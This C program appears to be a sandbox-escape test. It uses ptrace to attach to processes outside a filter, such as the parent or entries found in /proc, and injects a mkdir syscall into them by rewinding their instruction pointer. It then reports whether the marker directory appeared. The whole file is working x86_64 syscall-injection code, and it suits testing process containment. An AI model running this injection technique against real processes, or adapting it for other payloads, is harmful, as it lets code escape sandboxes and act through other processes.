/* Attack: PTRACE_ATTACH a process outside the filter (the parent first, then
 * anything in /proc) and make it run mkdir(MARKER) for us: the syscall is
 * injected by rewinding the target to the `syscall` instruction it is blocked
 * in. Exit 0 when some target made the directory.
 *   ptrace_escape MARKER [PID...] */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include "targets.h"

#if !defined(__x86_64__)
#error "the ptrace injection is written for x86_64; port it to this arch"
#endif

static int inject_mkdir(pid_t pid, const char *path) {
  int st;
  if (waitpid(pid, &st, __WALL) < 0) return errno;
  struct user_regs_struct regs, saved;
  if (ptrace(PTRACE_GETREGS, pid, NULL, &regs)) return errno;
  saved = regs;
  errno = 0;
  long word = ptrace(PTRACE_PEEKTEXT, pid, (void *)(regs.rip - 2), NULL);
  if (errno) return errno;
  if ((word & 0xffff) != 0x050f) return ENOEXEC; /* not stopped right after a syscall instruction */
  unsigned long addr = (regs.rsp - 2048) & ~15UL;
  size_t len = strlen(path) + 1;
  for (size_t off = 0; off < len; off += sizeof(long)) {
    long chunk = 0;
    memcpy(&chunk, path + off, len - off < sizeof chunk ? len - off : sizeof chunk);
    if (ptrace(PTRACE_POKEDATA, pid, (void *)(addr + off), (void *)chunk)) return errno;
  }
  regs.rip = saved.rip - 2;
  regs.rax = SYS_mkdir;
  regs.orig_rax = (unsigned long)-1;
  regs.rdi = addr;
  regs.rsi = 0755;
  if (ptrace(PTRACE_SETREGS, pid, NULL, &regs)) return errno;
  if (ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL)) return errno;
  if (waitpid(pid, &st, __WALL) < 0) return errno;
  ptrace(PTRACE_GETREGS, pid, NULL, &regs);
  long rc = (long)regs.rax;
  ptrace(PTRACE_SETREGS, pid, NULL, &saved);
  ptrace(PTRACE_DETACH, pid, NULL, NULL);
  return rc == 0 ? 0 : (int)-rc;
}

int main(int argc, char **argv) {
  if (argc < 2) { fprintf(stderr, "usage: ptrace_escape MARKER [PID...]\n"); return 2; }
  pid_t t[256];
  int n = attack_targets(argc, argv, 2, t, 256);
  printf("targets:");
  for (int i = 0; i < n; i++) printf(" %d", (int)t[i]);
  printf("\n");
  for (int i = 0; i < n; i++) {
    if (ptrace(PTRACE_ATTACH, t[i], NULL, NULL) != 0) {
      printf("pid %d: PTRACE_ATTACH failed: %s\n", (int)t[i], strerror(errno));
      continue;
    }
    int e = inject_mkdir(t[i], argv[1]);
    printf("pid %d: attached; injected mkdir: %s\n", (int)t[i], e ? strerror(e) : "done");
  }
  struct stat sb;
  int escaped = stat(argv[1], &sb) == 0;
  printf(escaped ? "ESCAPED\n" : "contained\n");
  return escaped ? 0 : 1;
}
